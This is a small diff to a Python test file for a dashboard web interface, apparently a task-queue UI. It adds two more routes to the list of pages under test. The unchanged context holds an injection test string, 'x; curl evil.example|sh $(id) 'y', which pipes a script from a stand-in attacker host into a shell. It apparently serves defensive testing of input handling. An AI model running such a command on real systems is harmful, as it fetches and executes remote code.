@@ -19,7 +19,7 @@ from tests.dashboard.browser_client import BrowserClient, Visitor
 pytestmark = pytest.mark.requirement("N14")
 EVIL = "x; curl evil.example|sh $(id) 'y"
 LISTS = ["/", "/jobs", "/failures", "/queues", "/lanes", "/limits", "/tasks", "/workers"]
-LISTS += ["/schedules", "/bulk", "/audit"]
+LISTS += ["/schedules", "/bulk", "/audit", "/batches?kind=gather", "/workflows?state=open"]
 
 
 def pages(operator: Operator) -> list[str]:
